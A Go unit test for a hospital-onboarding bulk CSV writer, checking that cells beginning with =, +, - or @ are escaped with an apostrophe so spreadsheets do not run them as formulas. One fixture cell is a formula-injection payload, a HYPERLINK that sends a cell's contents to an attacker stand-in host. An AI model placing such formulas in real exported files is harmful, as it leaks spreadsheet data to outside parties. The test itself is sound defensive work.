package bulk_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openhcx/hcxonboard/examples/bulk/internal/bulk"
)

// A list WriteRows writes is opened in a spreadsheet: a cell starting
// with =, +, - or @ (the generator's "+91 98765 43210" mobiles among
// them) would be read there as a formula. Such cells are written after an
// apostrophe, which ReadRows takes off again; other cells are written as
// they are.
func TestWriteRowsDefusesFormulas(t *testing.T) {
	t.Parallel()
	rows := []bulk.Row{
		{Line: 2, Key: "k1", HospitalName: `=HYPERLINK("https://attacker.example/?"&A1,"Open")`, Mobile: "+91 98765 43210",
			Address: "-2+3", Email: "@SUM(1+1)", AdminName: "Dr. Asha Rao"},
		{Line: 3, Key: "k2", HospitalName: "Sunrise Hospital", Mobile: "98765 43210", Address: "12, MG Road"},
	}
	var buf bytes.Buffer
	require.NoError(t, bulk.WriteRows(&buf, rows))
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	require.NoError(t, err)
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" {
				assert.NotContains(t, "=+-@", cell[:1], "cell %q would be a formula in a spreadsheet", cell)
			}
		}
	}
	assert.Contains(t, buf.String(), "'+91 98765 43210")
	assert.Contains(t, buf.String(), "k2,Sunrise Hospital,", "a plain cell is written as it is")
	assert.Contains(t, buf.String(), "98765 43210")

	back, err := bulk.ReadRows(&buf)
	require.NoError(t, err)
	assert.Equal(t, rows, back, "the apostrophe is taken off again")
}
